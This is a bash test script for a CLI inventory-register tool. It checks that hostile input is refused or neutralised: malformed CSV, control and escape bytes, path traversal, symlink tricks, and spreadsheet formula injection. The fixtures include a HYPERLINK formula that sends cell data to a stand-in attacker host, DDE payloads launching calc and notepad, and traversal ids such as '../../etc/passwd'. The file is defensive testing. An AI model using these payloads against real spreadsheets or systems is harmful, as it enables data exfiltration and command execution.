#!/usr/bin/env bash
# t_hostile.sh - hostile input gets a clear error (exit 2 with one "error:"
# line naming the file, line or field), changes nothing (the register's
# sha256 is unchanged, no file is created) and never crashes or hangs:
#  - CSV: invalid UTF-8, NUL bytes, a 1 MB field, a 5 MB field, 100,000
#    columns, a 1,000,000-line file whose last line is bad (all or
#    nothing), a file that is not text at all;
#  - command line and key files: invalid UTF-8 and control characters in
#    ids, names, values, contract references; NUL bytes in key files;
#  - registers that are not registers: empty, text, truncated, a FIFO, a
#    directory;
#  - formula injection through export-csv --excel;
#  - ".." and "/" in ids and contract references never steer an output
#    path (export-csv -o, export -o DIR, report -o, evidence -o DIR);
#  - a symbolic link where a key or an output file is expected (keygen -o,
#    export-csv -o, report -o, cosign -o, init -R): refused, its target
#    neither created nor changed.
set -u
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

parties
cd "$WORK" || fail "cd $WORK"
has() { "$SCOPEREG" help "$1" >/dev/null 2>&1; }

init_reg_ok ACME-1
sr_ok add SRV-01 --kind server --name 'File server' --set ip=10.0.0.5
sr_ok add PC-01 --kind workstation --name 'Poste compta'
sr_ok commit -m 'Initial inventory' --author jm
SHA=$(sha_of "$REG")

# import_refused WHAT CSV [OPTIONS...]: import is refused with a message
# naming the file; nothing is staged.
import_refused() {
    local what=$1 csv=$2
    shift 2
    refused -l "$csv" -m "$what" 2 -- timeout 120 "$SCOPEREG" -R "$REG" import "$csv" "$@"
    expect_stderr_contains "$(basename "$csv")"
    cp "$ERR_FILE" "$WORK/.import.err"
    run "$SCOPEREG" -R "$REG" status
    expect_stdout_contains "nothing staged"
    # Leave the import's stderr for the caller's checks.
    cp "$WORK/.import.err" "$ERR_FILE"
    ERR=$(cat "$ERR_FILE")
}

echo "# CSV: invalid UTF-8 and NUL bytes"
printf 'id,kind,name\nPC-02,pc,ok\nPC-03,pc,bad\xff\xfe name\n' >utf8.csv
import_refused "invalid UTF-8 in a name" utf8.csv
expect_stderr_contains "utf8.csv:3: column 3 'name': invalid UTF-8"
printf 'id,kind,name\nPC-\xc3\x28,pc,x\n' >utf8id.csv
import_refused "invalid UTF-8 in an id" utf8id.csv
printf 'id,kind,name\xed\xa0\x80\nPC-02,pc,x\n' >surrogate.csv
import_refused "a UTF-16 surrogate in a header" surrogate.csv
printf 'id,kind,name\nPC-02,pc,a\0b\n' >nul.csv
import_refused "a NUL byte in a value" nul.csv
expect_stderr_contains "U+0000"
printf 'id,kind,name\nPC\0-02,pc,x\n' >nulid.csv
import_refused "a NUL byte in an id" nulid.csv
printf 'id,kind\0,name\nPC-02,pc,x\n' >nulhdr.csv
import_refused "a NUL byte in a header" nulhdr.csv
printf 'id,kind,na\033[31mme\nPC-02,pc,x\n' >eschdr.csv
import_refused "a terminal escape sequence in a header" eschdr.csv --dry-run
expect_stderr_contains "control character U+001B at character 3 of the header"
grep -q $'\033' "$ERR_FILE" "$OUT_FILE" && fail "import --dry-run echoes an ESC byte from a header"
printf 'id,kind,name\nPC-02,pc,"a\033[2J\033]0;pwned\007"\n' >esc.csv
import_refused "terminal escape sequences in a value" esc.csv
grep -q $'\033' "$ERR_FILE" && fail "the error message echoes an ESC byte to the terminal"
pass "no ESC byte reaches the terminal"
head -c 65536 /dev/urandom >random.csv
run timeout 60 "$SCOPEREG" -R "$REG" import random.csv
[ "$RC" -eq 2 ] || fail "import of random bytes: exit $RC, expected 2"
expect_same_sha "$REG" "$SHA" "import of 64 KiB of random bytes"
grep -q $'\033' "$ERR_FILE" && fail "the error messages about random bytes echo an ESC byte"
pass "random bytes: refused, no ESC byte echoed"

echo "# CSV: oversized fields and records"
awk 'BEGIN { printf "id,kind,notes\nPC-02,pc,"; for (i = 0; i < 131072; i++) printf "abcdefgh"; print "" }' >field1m.csv
import_refused "a 1 MB field" field1m.csv
expect_stderr_contains "field1m.csv:2: column 'notes'"
awk 'BEGIN { printf "id,kind,notes\nPC-02,pc,\""; for (i = 0; i < 655360; i++) printf "abcdefgh"; print "\"" }' >field5m.csv
import_refused "a 5 MB quoted field" field5m.csv
expect_stderr_contains "field5m.csv:2"
printf 'id,kind,notes\nPC-02,pc,"never closed\nPC-03,pc,x\n' >open.csv
import_refused "a quote left open" open.csv
awk 'BEGIN { printf "id"; for (i = 1; i < 100000; i++) printf ",c%d", i; print ""; printf "X"; for (i = 1; i < 100000; i++) printf ",v"; print "" }' >cols.csv
import_refused "100,000 columns" cols.csv
expect_stderr_contains "cols.csv:1"
awk 'BEGIN { print "id,kind,name"; printf "PC-02,pc,x"; for (i = 1; i < 100000; i++) printf ",v"; print "" }' >wide.csv
import_refused "a row of 100,000 fields under a 3-column header" wide.csv
expect_stderr_contains "wide.csv:2"

echo "# CSV: 1,000,000 lines, the last one bad: all or nothing"
awk 'BEGIN {
    print "id,kind,name,serial"
    for (i = 1; i < 1000000; i++) printf "PC-%07d,workstation,Poste %d,SN%d\n", i, i, i
    print "PC-LAST,toaster,bad kind,SN0"
}' >million.csv
[ "$(wc -l <million.csv)" -eq 1000001 ] || fail "awk did not write 1,000,001 lines"
import_refused "1,000,000 rows, the last bad" million.csv
expect_stderr_contains "million.csv:1000001: column 'kind'"
expect_stderr_contains "nothing was staged"
# The same on a register with free pages (a large stage committed and
# emptied): the content is unchanged; the bytes of free pages may not be.
if command -v sqlite3 >/dev/null 2>&1; then
    cp "$REG" freepages.db
    head -n 50001 million.csv >half.csv
    "$SCOPEREG" -R freepages.db import half.csv >/dev/null 2>&1 &&
        "$SCOPEREG" -R freepages.db commit -m half >/dev/null 2>&1 || fail "import of 50,000 rows failed"
    [ "$(sqlite3 freepages.db 'PRAGMA freelist_count')" -gt 0 ] || fail "freepages.db has no free page"
    before=$(sqlite3 -readonly freepages.db .dump | sha256sum)
    fsha=$(sha_of freepages.db)
    expect_exit 2 "$SCOPEREG" -R freepages.db import million.csv
    [ "$(sqlite3 -readonly freepages.db .dump | sha256sum)" = "$before" ] || fail "a refused import changed the content of freepages.db"
    if [ "$(sha_of freepages.db)" = "$fsha" ]; then
        pass "refused import on a register with free pages: content and bytes unchanged"
    else
        pass "refused import on a register with free pages: content unchanged (note: bytes of free pages changed)"
    fi
fi

echo "# the command line: invalid UTF-8, control characters"
refused -m "an id with invalid UTF-8" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add $'PC-\xff' --kind pc
refused -m "an id with U+0001" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add $'PC-\x01' --kind pc
refused -m "an id with a line feed" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add $'PC-02\nitem: FAKE' --kind pc
refused -m "an id with an ESC" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add $'PC-\033[2J' --kind pc
grep -q $'\033' "$ERR_FILE" && fail "the error message echoes an ESC byte"
refused -m "an id of 201 bytes" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add "$(head -c 201 /dev/zero | tr '\0' x)" --kind pc
refused -m "a name with invalid UTF-8" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add PC-02 --kind pc --name $'\xc0\xaf'
refused -m "an overlong encoding of '/'" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add $'PC\xc0\xaf02' --kind pc
refused -m "a value with a CR" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add PC-02 --kind pc --set $'notes=a\rb'
refused -m "a value with DEL" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add PC-02 --kind pc --set $'notes=a\x7fb'
refused -m "a value with a C1 control" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add PC-02 --kind pc --set $'notes=a\xc2\x85b'
run "$SCOPEREG" -R "$REG" add PC-02 --kind pc --set "notes=$(head -c 100000 /dev/zero | tr '\0' x)"
[ "$RC" -eq 2 ] || fail "add with a value of 100 KB: exit $RC, expected 2"
expect_one_error_line
expect_same_sha "$REG" "$SHA" "a value of 100 KB"
refused -m "a key that normalises to nothing" 2 -- timeout 120 "$SCOPEREG" -R "$REG" add PC-02 --kind pc --set '!!!=x'
refused -m "a value with the register's separator byte 0x1E" 2 -- timeout 120 "$SCOPEREG" -R "$REG" edit SRV-01 --set $'ip=10.0.0.6\x1e'
refused -m "a removal reason with invalid UTF-8" 2 -- timeout 120 "$SCOPEREG" -R "$REG" remove PC-01 --reason $'stolen\xff'
# A commit whose message would forge document lines: the message is one
# field; a line feed is escaped or refused, never a new header line.
cp "$REG" msg.db
"$SCOPEREG" -R msg.db add PC-02 --kind pc >/dev/null 2>&1 || fail "add on msg.db"
run "$SCOPEREG" -R msg.db commit -m $'Q1\nversion: 99\nitems: 0' --author $'jm\nprevious: none'
if [ "$RC" -eq 0 ]; then
    run "$SCOPEREG" -R msg.db show 2
    [ "$(grep -c '^version: ' "$OUT_FILE")" -eq 1 ] && [ "$(grep -c '^items: ' "$OUT_FILE")" -eq 1 ] &&
        [ "$(grep -c '^previous: ' "$OUT_FILE")" -eq 1 ] || fail "a commit message forged a header line"
    pass "a message with line feeds stays one field of the document"
    expect_ok "$SCOPEREG" -R msg.db verify
else
    [ "$RC" -eq 2 ] || fail "commit with line feeds in the message: exit $RC"
    pass "a message with line feeds is refused"
fi
printf 'untrusted comment: x\nRWQ\0AAAA\n' >nul.pub
refused -m "a NUL byte in a public key file" 2 -- timeout 120 "$SCOPEREG" -R "$WORK/nul-init.db" init --contract X \
    --provider P --provider-key nul.pub --client C --client-key keys/client.pub
[ ! -e "$WORK/nul-init.db" ] || fail "init left a register behind"
refused -m "a contract reference with invalid UTF-8" 2 -- timeout 120 "$SCOPEREG" -R "$WORK/bad-init.db" init \
    --contract $'ACME\xff' --provider P --provider-key keys/provider.pub --client C --client-key keys/client.pub
refused -m "a contract reference with a line feed" 2 -- timeout 120 "$SCOPEREG" -R "$WORK/bad-init.db" init \
    --contract $'ACME\nversion: 9' --provider P --provider-key keys/provider.pub --client C --client-key keys/client.pub
[ ! -e "$WORK/bad-init.db" ] || fail "init left a register behind"
pass "no register created by a refused init"

echo "# registers that are not registers"
: >empty.db
printf 'id,kind\nPC,pc\n' >text.db
head -c 8192 "$REG" >truncated.db
mkfifo fifo.db
mkdir dir.db
for f in empty.db text.db truncated.db fifo.db dir.db nowhere.db; do
    for cmd in verify log "add X --kind pc"; do
        # shellcheck disable=SC2086
        run timeout 30 "$SCOPEREG" -R "$f" $cmd
        [ "$RC" -eq 2 ] || [ "$RC" -eq 1 ] || fail "$cmd on $f: exit $RC, expected 1 or 2 (not a crash, not a hang)"
        expect_one_error_line
    done
done
run "$SCOPEREG" -R truncated.db verify
expect_stderr_contains "register truncated.db cannot be read: database disk image is malformed (a truncated or damaged file, or a failing disk; restore the register from a copy)"
run "$SCOPEREG" -R text.db verify
expect_stderr_contains "text.db is not a scopereg register (file is not a database)"
[ ! -e nowhere.db ] || fail "a command on a missing register created it"
[ ! -s empty.db ] || fail "a command wrote into empty.db"
pass "no register file created or filled"

echo "# formula injection through export-csv --excel"
FR="$WORK/formula.db"
cp "$REG" "$FR"
fr() { "$SCOPEREG" -R "$FR" "$@" >>"$WORK/build.log" 2>&1 || fail "$(show_cmd "$@") failed: $(tail -n 3 "$WORK/build.log")"; }
fr add '=HYPERLINK("http://evil.example/?"&A1,"click")' --kind pc --name '+1+cmd|'"'"' /C calc'"'"'!A0' \
    --set 'notes=@SUM(1+1)' --set 'owner=-2+3' --set "model=$(printf '\t=1+1')" \
    --set 'location=a;=2' --set 'vendor==cmd|'"'"'/C notepad'"'"'!A1'
fr add --kind pc --name $'line one\n=2+3' --set 'notes=safe =1' -- '-PC-9'
fr add '@PC-8' --kind pc --name '=1;2' --set 'licences=+33 1 23 45 67 89'
fr add 'PC-7' --kind pc --set 'serial=x,=1+1' --set 'notes=a, -2+3'
# text that starts with an apostrophe of its own, and guarded TABs
fr add "'=A" --kind pc --name "'=x" --set "$(printf 'model=\t=2')" --set "owner=x,@y" \
    --set "notes=a,'-b"
fr commit -m 'formulas'
expect_ok "$SCOPEREG" -R "$FR" export-csv --excel -o formula.csv
# Split each record as Excel does with ';' (quotes honoured, "" is a quote);
# every cell that begins with = + - @ TAB or CR must begin with ' instead.
awk 'BEGIN { RS = "\r\n"; bad = 0 }
NR == 1 { sub(/^\xef\xbb\xbf/, "") }
{
    rec = rec $0
    n = gsub(/"/, "\"", rec)
    if (n % 2) { rec = rec "\n"; next }   # a quoted line break: the record goes on
    line = rec; rec = ""
    cell = ""; q = 0
    for (i = 1; i <= length(line) + 1; i++) {
        c = (i <= length(line)) ? substr(line, i, 1) : ";"
        if (q) {
            if (c == "\"") { if (substr(line, i + 1, 1) == "\"") { cell = cell c; i++ } else q = 0 }
            else cell = cell c
        } else if (c == "\"") q = 1
        else if (c == ";") {
            f = substr(cell, 1, 1)
            if (f == "=" || f == "+" || f == "-" || f == "@" || f == "\t" || f == "\r") { print "live formula: " cell; bad = 1 }
            cells++
            cell = ""
        } else cell = cell c
    }
}
END { print cells " cells"; exit bad }' formula.csv >formula.check || {
    cat formula.check >&2
    fail "export-csv --excel left a cell that a spreadsheet would run"
}
pass "export-csv --excel: $(tail -n 1 formula.check), none begins with = + - @ TAB or CR"
grep -q "'=HYPERLINK" formula.csv && grep -q "'-PC-9" formula.csv && grep -q "'@PC-8" formula.csv &&
    grep -q "'+1+cmd" formula.csv || fail "ids and names starting with = - @ + are not prefixed with '"
pass "ids and names are neutralised too"
# A spreadsheet whose list separator is ',' (US locales) splits the ';' file
# at commas too: a formula character right after a comma is neutralised.
if command -v python3 >/dev/null 2>&1; then
live=$(python3 -c '
import csv, sys
n = 0
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in csv.reader(f, delimiter=","):
        n += sum(1 for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell[:1])
print(n)' formula.csv)
else
    live=0; echo "note: python3 absent, the comma split is not checked"
fi
[ "$live" = 0 ] ||
    fail "split at ',' as a US-locale spreadsheet would, $live piece(s) of formula.csv begin with = + - @"
pass "split at ',' as a US-locale spreadsheet would, no piece of formula.csv begins with = + - @"
head -c 3 formula.csv | od -An -tx1 | grep -q 'ef bb bf' || fail "no BOM"
pass "the Excel export starts with a BOM"
expect_ok "$SCOPEREG" -R "$FR" export-csv -o plain.csv
grep -q '^"=HYPERLINK' plain.csv || fail "plain CSV changed the id (it must round-trip)"
pass "plain CSV keeps values as they are (round trip)"
# The guard comes back with a re-import (a spreadsheet keeps the ' when it
# saves): import drops it, so the Excel export, imported back, stages
# nothing, and the output says how many rows had a guard dropped.
before=$(sha_of "$FR")
expect_ok "$SCOPEREG" -R "$FR" import formula.csv --dry-run -v
expect_stdout_contains "0 added, 0 modified, 0 removed, 7 unchanged"
expect_stdout_contains "dropped the apostrophe that guards a cell against formulas ('=, '+, '-, '@) in 5 rows (first on line 2)"
expect_ok "$SCOPEREG" -R "$FR" import formula.csv
expect_stdout_contains "0 added, 0 modified, 0 removed, 7 unchanged"
expect_ok "$SCOPEREG" -R "$FR" status
expect_stdout_contains "nothing staged"
pass "export-csv --excel, imported back, stages nothing"

echo "# -o names no file: refused before any work, nothing written anywhere"
mkdir -p onames && touch onames/.marker
long=$(printf 'n%.0s' $(seq 1 256))
for o in '' onames/ onames/. onames/.. "onames/$long.csv"; do
    expect_exit 2 "$SCOPEREG" -R "$FR" export-csv -o "$o"
    case "$o" in
    '') expect_stderr_contains "-o '': give the file to write; nothing was written" ;;
    *"$long"*) expect_stderr_contains "a file name is at most 255 bytes; nothing was written" ;;
    *) expect_stderr_contains "-o $o names a directory: give the file to write in it" ;;
    esac
    expect_exit 2 "$SCOPEREG" -R "$FR" report --html -o "$o"
    expect_exit 2 "$SCOPEREG" cosign nothing.scope --key keys/provider.key -o "$o"
done
[ "$(ls -A onames)" = .marker ] || fail "a refused -o wrote in its directory: $(ls -A onames)"
[ -z "$(find . -maxdepth 1 -newer onames/.marker -name '*.tmp')" ] || fail "a refused -o left a temporary file"
pass "export-csv, report and cosign refuse an -o that names no file, and write nothing"

echo "# '..' and '/' in ids and contract references never steer an output path"
TR="$WORK/trav.db"
expect_ok "$SCOPEREG" -R "$TR" init --contract '../../../tmp/evil/../x' --provider 'P/../..' \
    --provider-key keys/provider.pub --client 'C' --client-key keys/client.pub
expect_ok "$SCOPEREG" -R "$TR" add '../../etc/passwd' --kind pc --name '/etc/shadow'
expect_ok "$SCOPEREG" -R "$TR" add '/abs/path' --kind pc --set 'location=../..'
expect_ok "$SCOPEREG" -R "$TR" add '..' --kind pc
expect_ok "$SCOPEREG" -R "$TR" commit -m '../../x' --author '../y'
expect_ok "$SCOPEREG" -R "$TR" show
expect_stdout_contains "item: ../../etc/passwd"
if has sign; then # both parties sign, so that evidence has a version in force
    expect_ok "$SCOPEREG" -R "$TR" sign --key keys/provider.key
    expect_ok "$SCOPEREG" -R "$TR" sign --key keys/client.key
fi
mkdir -p sandbox/out
touch marker
sleep 1 # file times are compared to the marker's
expect_ok "$SCOPEREG" -R "$TR" export-csv -o sandbox/out/v1.csv
[ -f sandbox/out/v1.csv ] || fail "export-csv -o did not write where it was told"
pass "export-csv -o writes exactly the path given"
if has export; then
    expect_ok "$SCOPEREG" -R "$TR" export -o sandbox/out/docs
    n_out=$(find sandbox/out/docs -mindepth 1 | wc -l)
    n_flat=$(find sandbox/out/docs -mindepth 1 -maxdepth 1 -type f | wc -l)
    [ "$n_out" -ge 3 ] && [ "$n_out" -eq "$n_flat" ] || fail "export -o DIR wrote outside DIR or made subdirectories: $(find sandbox/out/docs)"
    find sandbox/out/docs -mindepth 1 -name '.*' | grep -q . && fail "export wrote a hidden file: $(ls -a sandbox/out/docs)"
    pass "export -o DIR: $n_out plain files, all directly in DIR: $(ls sandbox/out/docs | tr '\n' ' ')"
fi
if has report; then
    expect_ok "$SCOPEREG" -R "$TR" report --html -o sandbox/out/annex.html
    [ -f sandbox/out/annex.html ] || fail "report -o did not write where it was told"
    grep -q '<script' sandbox/out/annex.html && fail "the HTML report holds a <script>"
    pass "report -o writes exactly the path given"
fi
if has evidence; then
    run "$SCOPEREG" -R "$TR" evidence -o sandbox/out/evidence
    if [ "$RC" -eq 0 ]; then
        n_out=$(find sandbox/out/evidence -mindepth 1 -not -type d | wc -l)
        [ "$n_out" -ge 1 ] || fail "evidence exited 0 and wrote nothing"
        find sandbox/out/evidence -mindepth 1 -name '..*' | grep -q . && fail "evidence made a '..' name"
        pass "evidence -o DIR: $n_out files, all under DIR"
        expect_ok "$SCOPEREG" -R "$TR" evidence '../../etc/passwd' -o sandbox/out/evidence-id
        [ -n "$(find sandbox/out/evidence-id -mindepth 1 -not -type d)" ] || fail "evidence ID wrote nothing"
        find sandbox/out/evidence-id -mindepth 1 -name '..*' | grep -q . && fail "evidence ID made a '..' name"
        pass "evidence '../../etc/passwd' -o DIR: $(find sandbox/out/evidence-id -mindepth 1 -not -type d | wc -l) files, all under DIR"
    else
        # An unsigned register may have no evidence to give: a refusal is fine.
        [ "$RC" -eq 1 ] || [ "$RC" -eq 2 ] || fail "evidence exited $RC"
        expect_one_error_line
        [ ! -e sandbox/out/evidence ] || [ -z "$(find sandbox/out/evidence -not -type d)" ] ||
            fail "a refused evidence left files"
        pass "evidence refused ($(head -n 1 "$ERR_FILE" | cut -c 1-100)), nothing written"
    fi
fi
find "$WORK" -newer marker -not -type d -not -path "$WORK/sandbox/out/*" -not -path "$WORK/.*" \
    -not -name outside.new >outside.new
[ ! -s outside.new ] || fail "files written outside the output paths: $(cat outside.new)"
for p in /tmp/evil /tmp/x /tmp/x-v1.scope /etc/passwd.csv /abs "$WORK/tmp" "$WORK/x-v1.scope"; do
    [ ! -e "$p" ] || [ "$p" -ot marker ] || fail "$p was created"
done
pass "nothing written outside the output paths"

echo "# symbolic links where a key or an output file is expected"
echo 'precious' >target.txt
TSHA=$(sha_of target.txt)
ln -s target.txt link.key
ln -s target.txt link.pub
ln -s "$WORK/not-there.txt" dangling.key
# keygen: the .key or the .pub is a link to an existing file, or dangling.
mkdir kg
ln -s ../target.txt kg/a.key
expect_exit 2 "$SCOPEREG" keygen -o kg/a --unencrypted
expect_one_error_line
[ ! -e kg/a.pub ] || fail "keygen wrote a.pub although a.key was refused"
ln -s ../target.txt kg/b.pub
expect_exit 2 "$SCOPEREG" keygen -o kg/b --unencrypted
[ ! -e kg/b.key ] || fail "keygen wrote b.key although b.pub was refused"
ln -s "$WORK/not-there.key" kg/c.key
expect_exit 2 "$SCOPEREG" keygen -o kg/c --unencrypted
[ ! -e "$WORK/not-there.key" ] || fail "keygen created the target of a dangling link"
[ ! -e kg/c.pub ] || fail "keygen wrote c.pub although c.key was refused"
pass "keygen refuses a link at NAME.key or NAME.pub and writes neither file"
expect_exit 2 "$SCOPEREG" keygen -o kg/c --unencrypted --force
expect_stderr_contains "not a regular file"
[ -L kg/c.key ] && [ ! -e "$WORK/not-there.key" ] || fail "keygen --force replaced or wrote through the link"
pass "keygen --force replaces regular files only: the link stays, its target is never written"
expect_same_sha target.txt "$TSHA" "link targets"
# export-csv -o
expect_exit 2 "$SCOPEREG" -R "$REG" export-csv -o link.key
expect_one_error_line
expect_exit 2 "$SCOPEREG" -R "$REG" export-csv -o link.key --force
expect_exit 2 "$SCOPEREG" -R "$REG" export-csv -o dangling.key
[ ! -e not-there.txt ] || fail "export-csv created the target of a dangling link"
expect_same_sha target.txt "$TSHA" "export-csv -o LINK"
if has report; then
    expect_exit 2 "$SCOPEREG" -R "$REG" report --html -o link.pub
    expect_exit 2 "$SCOPEREG" -R "$REG" report --html -o dangling.key
    run "$SCOPEREG" -R "$REG" report --html -o link.pub --force
    [ "$RC" -ne 0 ] || [ ! -L link.pub ] || fail "report --force wrote through a link"
    [ ! -e not-there.txt ] || fail "report created the target of a dangling link"
    expect_same_sha target.txt "$TSHA" "report -o LINK"
    rm -f link.pub
    ln -s target.txt link.pub
fi
if has export; then
    mkdir exp
    expect_ok "$SCOPEREG" -R "$REG" export -o exp
    victim=$(ls exp/*.scope | head -n 1)
    rm -f exp/*
    ln -s ../target.txt "$victim"
    expect_exit 2 "$SCOPEREG" -R "$REG" export -o exp
    expect_same_sha target.txt "$TSHA" "export -o DIR with a link planted at the document's name"
    [ "$(find exp -type f | wc -l)" -eq 0 ] || fail "export wrote some files although one was refused"
    pass "export wrote nothing"
fi
if has cosign && has export; then
    mkdir cos
    expect_ok "$SCOPEREG" -R "$REG" export -o cos
    doc=$(ls cos/*.scope | head -n 1)
    cp keys/client.key client.key && chmod 600 client.key
    expect_exit 2 "$SCOPEREG" cosign "$doc" --key client.key -o link.pub
    expect_exit 2 "$SCOPEREG" cosign "$doc" --key client.key -o dangling.key
    [ ! -e not-there.txt ] || fail "cosign created the target of a dangling link"
    expect_same_sha target.txt "$TSHA" "cosign -o LINK"
fi
# init -R LINK: a dangling link is not a new register
ln -s "$WORK/not-there.db" dangling.db
expect_exit 2 "$SCOPEREG" -R dangling.db init --contract X --provider P --provider-key keys/provider.pub \
    --client C --client-key keys/client.pub
[ ! -e not-there.db ] || fail "init created the target of a dangling link"
ln -s target.txt linked.db
expect_exit 2 "$SCOPEREG" -R linked.db init --contract X --provider P --provider-key keys/provider.pub \
    --client C --client-key keys/client.pub
expect_same_sha target.txt "$TSHA" "init -R LINK"
expect_same_sha "$REG" "$SHA" "the register, after all of the above"

done_checks
